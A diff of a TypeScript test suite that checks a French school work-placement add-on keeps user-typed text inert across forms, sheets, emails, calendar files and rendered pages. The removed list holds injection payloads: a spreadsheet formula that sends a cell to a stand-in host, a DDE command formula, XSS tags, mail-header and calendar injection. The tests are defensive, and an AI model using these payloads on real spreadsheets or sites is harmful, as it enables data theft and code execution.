@@ -1,104 +1,14 @@
 /** What comes from outside stays text wherever it is shown: no formula, no tag, no header, no line of a file of its own. */
 import { readdirSync, readFileSync } from 'node:fs';
 import Papa from 'papaparse';
-import type { FormAnswers, FormItemView } from 'apps-script-local';
-import { asksHost, FORM, Hub, linkIn, MINUTE, offerAnswers, plain, RAW, removeHubs, requestAnswers, SAY } from '../support/hub';
+import type { Browser } from 'playwright-core';
+import { openBrowser } from '../support/browser';
+import { type Hub, plain, removeHubs } from '../support/hub';
+import { fieldsOf, road, STRINGS } from '../support/injection-road';
+import { LivePage } from '../support/live-page';
 
 jest.setTimeout(240_000);
 afterAll(removeHubs);
-
-/** What a person who means harm, or who does not know, may type. */
-const STRINGS = [
-  '=HYPERLINK("https://mal.example/?"&A1;"Cliquez")',
-  '+1+cmd|" /C calc"!A0',
-  '-2+3',
-  '@SUM(1+1)',
-  '\t=1+1',
-  '<img src=x onerror=alert(1)>',
-  '"><script>alert(1)</script>',
-  "' onmouseover='alert(1)",
-  'x\r\nBcc: mal@mal.example',
-  'x\nEND:VEVENT\nATTENDEE:mailto:mal@mal.example',
-  '{{html}} ${1+1} <?= 1+1 ?>',
-] as const;
-const SAFE: Readonly<Record<string, string>> = {
-  courriel: 'personne@exemple.example',
-  téléphone: '04 77 00 00 01',
-  postal: '42600',
-  commune: 'Montbrison',
-};
-
-const isOpen = (item: FormItemView): boolean =>
-  (item.kind === 'TEXT' || item.kind === 'PARAGRAPH_TEXT') && item.validation === undefined;
-/** Answers that lead on: the link's own words are left as the link gives them. */
-const isLocked = ({ title }: FormItemView): boolean => /^(?:Code|Référence|Jeton)/.test(title);
-
-/** A plausible answer of a question that is no free text. */
-function plausible(item: FormItemView): string | string[] {
-  if (item.choices !== undefined) return item.kind === 'CHECKBOX' ? [item.choices[0]!.value] : item.choices[0]!.value;
-  if (item.kind === 'DATE') return '2027-02-01';
-  if (item.kind === 'SCALE') return '3';
-  const known = Object.keys(SAFE).find((word) => item.title.toLowerCase().includes(word));
-  return known === undefined ? '1' : SAFE[known]!;
-}
-
-/** Sends the form with the string in every free text that is asked; a question that refuses it gets a plausible answer. */
-function inject(hub: Hub, formId: string, base: FormAnswers, string: string, kept: readonly string[] = []): void {
-  const { items } = hub.runtime.form(formId);
-  const free = items.filter(
-    (item) => isOpen(item) && !isLocked(item) && !/commune/i.test(item.title) && !kept.includes(plain(item.title)),
-  );
-  const given: Record<string, string | readonly string[]> = Object.fromEntries(free.map(({ title }) => [title, string]));
-  let answers: FormAnswers = { ...base, ...given };
-  for (let round = 0; round < 20; round += 1) {
-    const { accepted, errors } = hub.runtime.submitForm(formId, answers);
-    if (accepted) return;
-    const refused = items.filter(({ id }) => errors[id] !== undefined);
-    expect(refused.length).toBeGreaterThan(0);
-    answers = { ...answers, ...Object.fromEntries(refused.map((item) => [item.title, plausible(item)])) };
-  }
-  throw new Error('the form takes no answer');
-}
-
-const formOf = (hub: Hub, kind: keyof typeof FORM): string => hub.runtime.forms().find(({ title }) => title === FORM[kind])!.id;
-const WHAT = 'Que souhaitez-vous faire\u00a0?';
-
-/** The whole road with the string in every field: offer, request, contributions of each kind, proposition, answer. */
-function road(string: string): Hub {
-  const hub = Hub.open();
-  inject(hub, formOf(hub, 'offer'), offerAnswers('Alpha'), string);
-  inject(hub, formOf(hub, 'request'), requestAnswers(), string);
-  const contribution = formOf(hub, 'contribution');
-  const what = hub.runtime.form(contribution).items.find(({ title }) => title === WHAT)!;
-  for (const { value } of what.choices!)
-    inject(hub, contribution, { [WHAT]: value, 'Votre courriel': 'nour@lycee.example' }, string);
-  hub.advance(4 * MINUTE);
-  // A company that the school says it has asked is not proposed again: this request names none.
-  inject(hub, formOf(hub, 'request'), requestAnswers({ 'Initiales de l’élève': 'A. B.' }), string, ['Lesquelles ?']);
-  const asked = hub.rows('Demandes').at(-1)!['Référence']!;
-  const [host] = hub.hosts(asked);
-  const offer = host?.offerReference === undefined ? {} : { offerReference: host.offerReference };
-  hub.ask('sendPropositions', { requestReference: asked, choices: [{ companyReference: host!.companyReference, ...offer }] });
-  hub.advance(4 * MINUTE);
-  const mail = hub.runtime
-    .mailbox()
-    .filter((one) => asksHost(one) && one.subject.includes(asked))
-    .at(-1);
-  const { formId, answers } = hub.runtime.readPrefilledUrl(linkIn(mail!));
-  inject(hub, formId, { ...answers, [SAY.question]: SAY.yes }, string);
-  hub.advance(4 * MINUTE);
-  return hub;
-}
-
-/** Titles of the raw answers that hold the string: the fields that were injected. */
-function fieldsOf(hub: Hub, string: string): string[] {
-  const mark = plain(string.trim().replace(/\s+/g, ' ')).slice(0, 12);
-  return Object.values(RAW).flatMap((tab) => {
-    const rows = hub.runtime.spreadsheet().sheets.some(({ name }) => name === tab) ? hub.rows(tab) : [];
-    const titles = rows.flatMap((row) => Object.keys(row).filter((title) => row[title]!.replace(/\s+/g, ' ').includes(mark)));
-    return [...new Set(titles)].map((title) => `${tab} › ${title}`);
-  });
-}
 
 /** Content lines of an .ics file, folded ones put together (RFC 5545, 3.1). */
 const icsLines = (base64: string): string[] =>
@@ -149,24 +59,104 @@ const PLACES: Readonly<Record<string, (hub: Hub, string: string) => unknown>> = 
   },
 };
 
+/** The row that is selected shows its card beside the sheet. */
+function cards(hub: Hub): string[] {
+  return ['Demandes', 'Offres', 'Propositions', 'Entreprises'].flatMap((tab) => hub.rows(tab).map((row) => row['Référence']!));
+}
+
+/** Pages as the script serves them: each is shown, and what came into it from a text is listed. `reads` collects their words. */
+const PAGES: Readonly<Record<string, (hub: Hub, live: LivePage, looked: () => Promise<void>) => Promise<void>>> = {
+  'panneau : Aujourd’hui et chaque fiche': async (hub, live, looked) => {
+    for (const reference of cards(hub)) {
+      select(hub, reference);
+      await live.show(hub, 'openSidebar');
+      await looked();
+    }
+  },
+  'feuilles à imprimer : catalogue, établissements, attestations': async (hub, live, looked) => {
+    const { catalogue, schools, attestations } = hub.ask('getPapers');
+    expect(attestations.length).toBeGreaterThan(0);
+    for (const { id } of [catalogue, ...schools, ...attestations]) {
+      await live.show(hub, 'openPapers', [id]);
+      await looked();
+    }
+  },
+  'rapport annuel': (hub, live, looked) => live.show(hub, 'openReport').then(looked),
+  carte: (hub, live, looked) => live.show(hub, 'openMap').then(looked),
+  répartition: (hub, live, looked) => live.show(hub, 'openAllocation').then(looked),
+  'second tour': (hub, live, looked) => live.show(hub, 'openSecondTour').then(looked),
+  'santé et passation': async (hub, live, looked) => {
+    for (const opens of ['openHealth', 'openHandover']) {
+      await live.show(hub, opens);
+      await looked();
+    }
+  },
+  'modèles de courriels, avec leurs exemples': (hub, live, looked) => live.show(hub, 'openTemplates').then(looked),
+};
+/** Where the hub's own texts are read, not only its figures. */
+const SHOWS_TEXTS = Object.keys(PAGES).slice(0, 2);
+
+function select(hub: Hub, reference: string): void {
+  const sheet = hub.runtime
+    .spreadsheet()
+    .sheets.map(({ name }) => hub.runtime.sheetByName(name))
+    .find(({ cells }) => cells.some(([first]) => first?.display === reference))!;
+  hub.runtime.select(sheet.id, `A${sheet.cells.findIndex(([first]) => first?.display === reference) + 1}`);
+}
+
 /** Fields that one string went into; the same for every string that a text of one line can hold. */
 let fields: readonly string[] = [];
 
+let browser: Browser;
+beforeAll(async () => {
+  browser = await openBrowser();
+});
+afterAll(() => browser.close());
+
 describe.each(STRINGS.map((string) => [JSON.stringify(string), string] as const))('%s', (_shown, string) => {
   let hub: Hub;
-  beforeAll(() => {
+  let live: LivePage;
+  beforeAll(async () => {
     hub = road(string);
+    live = await LivePage.open(browser);
   });
-  afterAll(() => hub.close());
+  afterAll(async () => {
+    await live.page.close();
+    hub.close();
+  });
 
   test('is taken as it was typed in every free text of the forms', () => {
     fields = [...new Set([...fields, ...fieldsOf(hub, string)])];
-    expect(fieldsOf(hub, string).length).toBeGreaterThan(25);
+    expect(fieldsOf(hub, string).length).toBeGreaterThan(35);
   });
 
   test.each(Object.keys(PLACES))('%s', (place) => {
     expect(PLACES[place]!(hub, string)).toEqual([]);
   });
+
+  test.each(Object.keys(PAGES))('%s', async (place) => {
+    const found: string[] = [];
+    let read = '';
+    await PAGES[place]!(hub, live, async () => {
+      found.push(...(await live.foreign()));
+      read += await live.text();
+    });
+    expect(found).toEqual([]);
+    const mark = plain(string.trim().replace(/\s+/g, ' ')).slice(0, 8);
+    if (SHOWS_TEXTS.includes(place)) expect(plain(read.replace(/\s+/g, ' '))).toContain(mark);
+  });
+});
+
+test('what got into a page as tags would be seen', async () => {
+  const hub = road('x');
+  const live = await LivePage.open(browser);
+  await live.show(hub, 'openReport');
+  expect(await live.foreign()).toEqual([]);
+  await live.page.evaluate('document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=alert(1)>")');
+  await live.page.waitForTimeout(300);
+  expect(await live.foreign()).toEqual([expect.stringContaining('<img'), 'request https://addon.example/x', 'dialog 1']);
+  await live.page.close();
+  hub.close();
 });
 
 test('no page of the add-on puts a text into the page as tags', () => {
@@ -178,6 +168,6 @@ test('no page of the add-on puts a text into the page as tags', () => {
 });
 
 test('docs/securite.md gives the figure of this suite', () => {
-  const figure = `${STRINGS.length} chaînes × ${fields.length} champs × ${Object.keys(PLACES).length + 1} endroits`;
+  const figure = `${STRINGS.length} chaînes × ${fields.length} champs × ${Object.keys(PLACES).length + Object.keys(PAGES).length + 1} endroits`;
   expect(plain(readFileSync('docs/securite.md', 'utf8'))).toContain(figure);
 });
